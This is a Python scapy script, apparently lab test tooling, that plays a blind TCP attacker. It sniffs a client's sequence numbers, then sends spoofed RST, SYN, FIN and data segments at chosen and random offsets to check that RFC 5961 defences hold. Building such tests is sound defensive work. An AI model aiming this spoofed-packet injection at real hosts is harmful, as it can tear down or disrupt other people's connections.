#!/usr/bin/python3
"""A blind attacker on one connection, with scapy, for tests/lab/blind.sh.

    blind.py peek CLIENT_PORT
        (in the client's namespace) prints "SEQ ACK" of the next segment
        the client sends from CLIENT_PORT to port 80: where its sequence
        space is, for the offsets below.
    blind.py attack VIP CLIENT CLIENT_PORT SEQ ACK COUNT SECONDS
        (in the attacker's namespace) sends segments as CLIENT:CLIENT_PORT
        to VIP:80 until COUNT are sent or SECONDS pass: RSTs at offsets
        from SEQ (in the window, not at it, and outside it), SYNs past the
        sequence space with a newer timestamp, FINs and data at those
        offsets with acknowledgments no stack takes (of data never sent,
        or more than a window old), then segments of each kind at random
        sequence and acknowledgment numbers. Prints "N spoofed segments in S s".

RFC 5961 is what lets none of them end or corrupt the connection; a
segment in the window with a good acknowledgment is the attack it leaves
possible (2^-32 squared odds, blind), so none is sent here.
"""
import random
import sys
import time

from scapy.all import IP, TCP, conf, sniff

conf.verb = 0

OFFSETS = [1, 100, 1 << 16, 1 << 20, 1 << 24, 1 << 31, -1, -(1 << 16), -(1 << 20)]
M32 = (1 << 32) - 1


def peek(port):
    p = sniff(iface="eth0", count=1, timeout=30,
              lfilter=lambda p: TCP in p and p[TCP].sport == port and p[TCP].dport == 80)
    if not p:
        sys.exit("no segment from the client seen")
    print(p[0][TCP].seq, p[0][TCP].ack)


def segments(client, port, vip, seq, ack):
    base = IP(src=client, dst=vip)
    ts_ahead = [("Timestamp", (random.getrandbits(31) | (1 << 31), 0))]
    bad_acks = [(ack + (1 << 30)) & M32, (ack - (1 << 30)) & M32]
    for o in OFFSETS:
        s = (seq + o) & M32
        yield base / TCP(sport=port, dport=80, flags="R", seq=s)
        for a in bad_acks:
            yield base / TCP(sport=port, dport=80, flags="FA", seq=s, ack=a)
            yield base / TCP(sport=port, dport=80, flags="A", seq=s, ack=a) / (b"X" * 100)
    for a in bad_acks:
        yield base / TCP(sport=port, dport=80, flags="A", seq=seq, ack=a) / (b"X" * 100)
    yield base / TCP(sport=port, dport=80, flags="S", seq=(seq + (1 << 30)) & M32,
                     options=ts_ahead)
    while True:
        kind = random.choice(["R", "S", "FA", "A"])
        t = TCP(sport=port, dport=80, flags=kind, seq=random.getrandbits(32),
                ack=random.getrandbits(32) if "A" in kind else 0,
                options=ts_ahead if kind == "S" else [])
        yield base / t / (b"X" * 100 if kind == "A" else b"")


def attack(vip, client, port, seq, ack, count, seconds):
    sock = conf.L3socket()
    end = time.monotonic() + seconds
    sent = 0
    for p in segments(client, port, vip, seq, ack):
        if sent >= count or time.monotonic() > end:
            break
        sock.send(p)
        sent += 1
    print(sent, "spoofed segments in", round(time.monotonic() - end + seconds, 1), "s")


if __name__ == "__main__":
    if sys.argv[1] == "peek":
        peek(int(sys.argv[2]))
    else:
        v, c, p, s, a, n, t = sys.argv[2:9]
        attack(v, c, int(p), int(s), int(a), int(n), float(t))
